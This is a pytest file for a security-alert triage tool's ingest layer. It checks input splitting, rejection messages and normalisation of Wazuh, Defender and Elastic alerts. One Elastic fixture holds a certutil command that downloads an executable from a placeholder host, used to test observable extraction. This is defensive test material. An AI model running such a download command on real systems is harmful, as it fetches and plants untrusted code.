"""Input splitting and rejections, through the public ingest API (no shared fixtures needed)."""

from __future__ import annotations

import json
import time

from soctriage.service.domain import Alert
from soctriage.service.ingest import IngestError, Rejection, iter_records, normalize_bytes, normalize_record

WAZUH = {
    "timestamp": "2025-03-05T08:02:17.331+0000",
    "rule": {"level": 10, "description": "sshd: brute force", "id": "5712"},
    "agent": {"id": "001", "name": "web-01", "ip": "192.0.2.5"},
    "id": "1741161737.1",
    "data": {"srcip": "198.51.100.9", "srcuser": "root"},
}


def _wazuh(n: int) -> bytes:
    return json.dumps({**WAZUH, "id": f"1741161737.{n}"}).encode()


def _split(results: list) -> tuple[list[Alert], list[Rejection]]:
    return [r for r in results if isinstance(r, Alert)], [r for r in results if isinstance(r, Rejection)]


def test_jsonl_bad_line_is_rejected_and_the_rest_processed() -> None:
    data = _wazuh(1) + b"\n\n" + b'{"a": 1 "b": 2}\n' + _wazuh(2) + b"\r\n"
    alerts, rejections = _split(list(normalize_bytes(data, "in.jsonl")))
    assert [a.source.vendor_alert_id for a in alerts] == ["1741161737.1", "1741161737.2"]
    (bad,) = rejections
    assert bad.line == 3
    assert bad.reason == "invalid JSON: Expecting ',' delimiter at column 9"
    assert bad.raw == b'{"a": 1 "b": 2}'
    assert bad.message() == "in.jsonl:3: invalid JSON: Expecting ',' delimiter at column 9"
    assert alerts[1].raw == _wazuh(2).decode()  # CRLF endings are not part of the record


def test_non_utf8_record_names_the_byte_and_offset() -> None:
    data = _wazuh(1) + b'\n{"id": "\xff"}\n'
    _, (bad,) = _split(list(normalize_bytes(data, "in.jsonl")))
    assert (bad.line, bad.reason) == (2, "not valid UTF-8: byte 0xff at offset 8")
    assert bad.raw == b'{"id": "\xff"}'


def test_oversized_line_is_rejected_quickly_by_size() -> None:
    big = b'{"a": "' + b"x" * (50 * 1024 * 1024) + b'"}'
    started = time.perf_counter()
    results = list(normalize_bytes(_wazuh(1) + b"\n" + big + b"\n" + _wazuh(2), "big.jsonl"))
    assert time.perf_counter() - started < 2.0
    alerts, (bad,) = _split(results)
    assert len(alerts) == 2
    assert bad.line == 2
    assert bad.reason == f"record is {len(big)} bytes, limit is {16 * 1024 * 1024}"
    assert len(bad.raw) == len(big)


def test_json_array_elements_keep_their_line_and_exact_text() -> None:
    first = json.dumps(WAZUH, indent=2)
    data = f'[\n  {first},\n  42,\n  {{"zz": 1}}\n]\n'.encode()
    records = list(iter_records(data, "arr.json", 1 << 20))
    height = first.count("\n") + 1
    assert [line for line, _, _ in records] == [2, 2 + height, 3 + height]
    assert records[0][1].decode() == first
    results = list(normalize_bytes(data, "arr.json"))
    alert, number, unknown = results
    assert isinstance(alert, Alert) and alert.raw == first
    assert isinstance(number, Rejection) and number.reason == "record is a number, not a JSON object"
    assert isinstance(unknown, Rejection)
    assert unknown.reason == "unknown alert format: no known vendor fields (keys: zz)"


def test_pretty_printed_object_and_back_to_back_objects() -> None:
    one = json.dumps(WAZUH, indent=2)
    (alert,) = list(normalize_bytes((one + "\n").encode(), "one.json"))
    assert isinstance(alert, Alert) and alert.raw == one
    two = json.dumps({**WAZUH, "id": "x2"}, indent=4)
    records = list(iter_records(f"{one}\n{two}\n".encode(), "two.json", 1 << 20))
    assert [(line, rec["id"]) for line, _, rec in records] == [
        (1, "1741161737.1"),
        (one.count("\n") + 2, "x2"),
    ]


def test_format_mismatch_unknown_format_and_missing_fields() -> None:
    raw = json.dumps(WAZUH)
    try:
        normalize_record(WAZUH, raw, "crowdstrike")
    except IngestError as exc:
        assert exc.reason == "--format crowdstrike given but the record looks like wazuh"
    else:
        raise AssertionError("a format mismatch must be rejected")
    no_time = {k: v for k, v in WAZUH.items() if k != "timestamp"}
    (bad,) = list(normalize_bytes(json.dumps(no_time).encode(), "-"))
    assert isinstance(bad, Rejection)
    assert (bad.reason, bad.field, bad.format) == ("missing required field", "timestamp", "wazuh")
    assert bad.message() == "-:1: missing required field (field timestamp)"
    (odd,) = list(normalize_bytes(b'{"a": 1, "b": 2, "c": 3}', "<stdin>"))
    assert isinstance(odd, Rejection)
    assert odd.message() == "<stdin>:1: unknown alert format: no known vendor fields (keys: a, b, c)"


def test_defender_pages_and_incidents() -> None:
    alert = {"id": "da1_1", "title": "t", "severity": "High", "alertCreationTime": "2025-03-01T00:00:00Z"}
    assert normalize_record({"value": []}, '{"value": []}') == []
    page_text = (
        '{"@odata.context": "x", "value": ['
        + json.dumps(alert)
        + ", "
        + json.dumps({**alert, "id": "b"})
        + "]}"
    )
    first, second = normalize_record(json.loads(page_text), page_text)
    assert first.raw == json.dumps(alert) and first.severity.label == "High"
    assert first.id != second.id
    incident = {
        "@odata.type": "#microsoft.graph.security.incident",
        "id": "77",
        "displayName": "Incident",
        "createdDateTime": "2025-03-01T00:00:00Z",
        "severity": "medium",
        "alerts": [],
    }
    (only,) = normalize_record(incident, json.dumps(incident))
    assert only.title == "Incident" and only.source.vendor_alert_id == "incident-77"


def test_elastic_flat_and_nested_keys_map_the_same() -> None:
    flat = {
        "@timestamp": "2025-03-05T13:22:09.481Z",
        "kibana.alert.rule.name": "Rule",
        "kibana.alert.risk_score": 80,
        "host.name": "h1",
        "user.name": "u1",
        "process.command_line": "certutil -urlcache -f http://files.example.net/a.exe a.exe",
        "process.parent.name": "cmd.exe",
        "threat.technique.id": ["T1105"],
        "threat.tactic.id": ["TA0011"],
    }
    nested = {
        "@timestamp": flat["@timestamp"],
        "kibana": {"alert": {"rule": {"name": "Rule"}, "risk_score": 80}},
        "host": {"name": "h1"},
        "user": {"name": "u1"},
        "process": {"command_line": flat["process.command_line"], "parent": {"name": "cmd.exe"}},
        "threat": {"technique": {"id": ["T1105"]}, "tactic": {"id": ["TA0011"]}},
    }
    (a,) = normalize_record(flat, json.dumps(flat))
    (b,) = normalize_record(nested, json.dumps(nested))
    fields = {"source", "raw", "unmapped"}
    assert a.model_dump(exclude=fields) == b.model_dump(exclude=fields)
    assert a.severity.label == "Critical" and a.techniques == ("T1105",)
    assert a.source.vendor_alert_id.startswith("sha256:")  # no kibana.alert.uuid: derived, and stable
    assert normalize_record(flat, json.dumps(flat))[0].id == a.id
    assert ("domain", "files.example.net") in {(o.type, o.value) for o in a.observables}
